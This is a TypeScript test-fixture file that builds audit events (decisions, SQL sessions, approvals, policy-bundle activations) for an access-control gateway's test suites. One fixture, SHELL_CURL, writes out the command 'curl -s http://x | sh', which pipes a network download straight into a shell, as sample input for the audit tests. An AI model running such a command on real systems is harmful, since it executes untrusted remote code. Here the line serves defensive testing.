import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ActionV1, EffectV1 } from '@portcullis/contract';
import { buildApprovalAuditEvent, type ApprovalEventName } from '../src/audit/events/approval-audit-event.ts';
import type { AuditEvent } from '../src/audit/audit-event.ts';
import { buildDecisionAuditEvent } from '../src/audit/events/decision-audit-event.ts';
import { buildBundleActivationEvent } from '../src/audit/events/bundle-activation-audit-event.ts';
import { buildSessionAuditEvent, buildSessionStatementsAuditEvent } from '../src/audit/events/session-audit-event.ts';
import type { VerifyResult } from '../src/identity/token-verifier.ts';
import { redactSqlText } from '../src/enrichment/sql/sql-text-redaction.ts';

/** Shared test data for the audit suites: decision, session and approval events as producers build them. */

/** An enriched action as these suites build it: the facts a mapping reads are enough (the PDP's own type is a strict union). */
type EnrichedAction = Record<string, unknown> & { type: ActionV1['type'] };

// The mapping's SQL redactor is enrichment's, as the PDP wires it.
export const PRODUCT = { version: '0.1.0-test', redactSqlText };

export const AGENT: VerifyResult = {
  ok: true,
  principal: { sub: 'agent-7', iss: 'https://idp.example.test', kind: 'agent', roles: ['reader', 'writer'], aud: ['portcullis'], claims: {} },
};

export const HUMAN: VerifyResult = {
  ok: true,
  principal: { sub: 'alice', iss: 'https://idp.example.test', kind: 'human', roles: ['dba'], aud: ['portcullis'], claims: {} },
};

export const EXPIRED: VerifyResult = { ok: false, code: 'token-expired', message: 'token expired' };

export const RESOURCE = { type: 'postgres', name: 'orders-db', environment: 'production', labels: { team: 'payments' } };

export function sqlAction(sql: string, kind: string, table = 'orders', extra: Record<string, unknown> = {}): EnrichedAction {
  const writes = ['insert', 'update', 'delete', 'merge'].includes(kind);
  return {
    type: 'sql',
    sql,
    parse_error: null,
    statements: [{
      kind, node: 'X', text: sql,
      operations: ['select', ...['insert', 'update', 'delete', 'merge']].includes(kind) ? [{ kind, table, schema: null, ...(kind === 'update' || kind === 'delete' ? { has_where: true } : {}) }] : [],
      tables: [table], columns: [], star_tables: [], functions: [], writes, explain_analyze: false, copy: null, set: null,
      ...extra,
    }],
  };
}

export const K8S_DELETE: EnrichedAction = {
  type: 'kubernetes', method: 'DELETE', path: '/api/v1/namespaces/prod/pods/web-1',
  request: { is_resource_request: true, verb: 'delete', api_prefix: 'api', api_group: '', api_version: 'v1', namespace: 'prod', resource: 'pods', subresource: '', name: 'web-1', parts: ['pods', 'web-1'] },
};

export const SHELL_CURL: EnrichedAction = {
  type: 'shell', command: 'curl -s http://x | sh', parse_error: null,
  commands: [
    { name: 'curl', path: 'curl', args: ['-s', 'http://x'], dynamic_name: false, pipeline: 0, pipeline_position: 0, pipeline_length: 2, via: null, redirects: [] },
    { name: 'sh', path: 'sh', args: [], dynamic_name: false, pipeline: 0, pipeline_position: 1, pipeline_length: 2, via: null, redirects: [] },
  ],
};

export const HTTP_POST: EnrichedAction = {
  type: 'http', method: 'POST', path: '/v1/refunds', query: { dry_run: 'true' }, headers: { 'content-type': 'application/json', authorization: '[redacted]' }, body: { amount: 5 },
};

let counter = 0;

export interface DecisionOptions {
  effect?: EffectV1;
  action?: EnrichedAction;
  verification?: VerifyResult;
  reasons?: Array<{ code: string; message: string }>;
  mask?: Array<{ table: string; column: string; strategy: string }>;
  session?: { id?: string; client_addr?: string };
  resource?: typeof RESOURCE | { type: string; name: string };
  decisionId?: string;
  /** The policy revision the decision names (default rev-42, which bundleActivationEvent activates). */
  revision?: string | null;
}

export function decisionEvent(options: DecisionOptions = {}): AuditEvent {
  counter += 1;
  const effect = options.effect ?? 'allow';
  const action = options.action ?? sqlAction('SELECT id FROM orders', 'select');
  return buildDecisionAuditEvent({
    decisionId: options.decisionId ?? `dec-${String(counter).padStart(4, '0')}`,
    request: {
      subject_token: 'eyJhbGciOiJFUzI1NiJ9.secret-token.sig',
      resource: options.resource ?? RESOURCE,
      action: action.type === 'sql' ? { type: 'sql', sql: String(action.sql) } : { type: 'shell', command: 'x' },
      ...(options.session ? { session: options.session } : {}),
    },
    pep: { sub: 'pep-orders-db', roles: ['pep'] },
    verification: options.verification ?? AGENT,
    action,
    outcome: {
      effect,
      reasons: options.reasons ?? (effect === 'deny' ? [{ code: 'sql-delete-without-where', message: 'DELETE without WHERE' }] : []),
      obligations: { mask: options.mask ?? [], record: true },
      ...(effect === 'approval_required' ? { approval: { quorum: 2, approver_roles: ['approver'], ttl_seconds: 900 } } : {}),
    },
    revision: options.revision === undefined ? 'rev-42' : options.revision,
    timings: { totalMicros: 900, enrichMicros: 300, evalMicros: 400 },
  });
}

/** The live activation of the fixtures' bundle (rev-42), which every decision of decisionEvent names. */
export function bundleActivationEvent(revision = 'rev-42', role: 'live' | 'shadow' = 'live'): AuditEvent {
  return buildBundleActivationEvent({
    role,
    revision,
    digest: `sha256:${'ab'.repeat(32)}`,
    sizeBytes: 4096,
    previousRevision: null,
    source: { kind: 'bundle-url', location: 'https://bundles.example.test/v1/policy.tar.gz?token=…' },
    signature: { status: 'verified', key_id: 'bundle-key-1', key_sha256: `sha256:${'cd'.repeat(32)}`, algorithm: 'ES256' },
    host: 'pdp-1.example.test',
  });
}

export function sessionStatementEvent(text: string, maskedCells = 0): AuditEvent {
  return buildSessionAuditEvent({
    event: 'session.statement',
    eventId: `evt-${(counter += 1)}`,
    time: new Date('2026-11-25T10:00:01.000Z'),
    session: { id: 'sess-1', client_addr: '10.1.2.3:51234' },
    protocol: 'sql',
    principal: { authenticated: true, sub: 'agent-7', iss: 'https://idp.example.test', kind: 'agent', roles: ['reader'] },
    pep: { sub: 'pep-orders-db' },
    resource: RESOURCE,
    statement: { text, kind: 'select' },
    decisionId: 'dec-stmt',
    status: 'success',
    durationMs: 12.4,
    rows: 3,
    bytes: 512,
    maskedCells,
  });
}

/** A run of statements of session sess-1 in one record, one entry per text (masked cells by position). */
export function sessionStatementsEvent(texts: readonly string[], maskedCells: readonly number[] = []): AuditEvent {
  return buildSessionStatementsAuditEvent({
    event: 'session.statements',
    eventId: `run-${(counter += 1)}`,
    session: { id: 'sess-1', client_addr: '10.1.2.3:51234' },
    protocol: 'sql',
    principal: { authenticated: true, sub: 'agent-7', iss: 'https://idp.example.test', kind: 'agent', roles: ['reader'] },
    pep: { sub: 'pep-orders-db' },
    resource: RESOURCE,
    statements: texts.map((text, index) => ({
      eventId: `evt-${(counter += 1)}`,
      time: new Date(Date.parse('2026-11-25T10:00:02.000Z') + index * 10),
      statement: { text, kind: 'select' },
      decisionId: 'dec-stmt',
      ...(index > 0 ? { decisionReused: true } : {}),
      status: 'success' as const,
      durationMs: 1.5,
      rows: 2,
      bytes: 100,
      ...(maskedCells[index] === undefined ? {} : { maskedCells: maskedCells[index] }),
    })),
  });
}

export function approvalEvent(event: ApprovalEventName, approvers: string[] = [], requester = 'agent-7'): AuditEvent {
  return buildApprovalAuditEvent({
    event,
    eventId: `apv-evt-${(counter += 1)}`,
    time: new Date('2026-11-25T10:05:00.000Z'),
    approval: {
      id: 'apv-1', decisionId: 'dec-needs-approval', quorum: 2,
      approvers: approvers.map((sub) => ({ sub, iss: 'https://idp.example.test', time: '2026-11-25T10:04:00.000Z' })),
      reason: 'refund ticket 123',
    },
    ...(event === 'approval.approved' || event === 'approval.denied'
      ? { actor: { authenticated: true as const, sub: approvers.at(-1) ?? 'bob', iss: 'https://idp.example.test', kind: 'human' as const, roles: ['approver'] } }
      : {}),
    principal: { authenticated: true, sub: requester, iss: 'https://idp.example.test', kind: 'agent', roles: ['writer'] },
    resource: RESOURCE,
    action: sqlAction('DELETE FROM orders WHERE id = 7', 'delete'),
  });
}

export async function tempDir(prefix: string): Promise<{ path: string; remove: () => Promise<void> }> {
  const path = await mkdtemp(join(tmpdir(), prefix));
  return { path, remove: () => rm(path, { recursive: true, force: true }) };
}

/** Items as a reader yields them, from an array, optionally reordered. */
export async function* items<T>(values: readonly T[]): AsyncIterable<T> {
  for (const value of values) yield value;
}
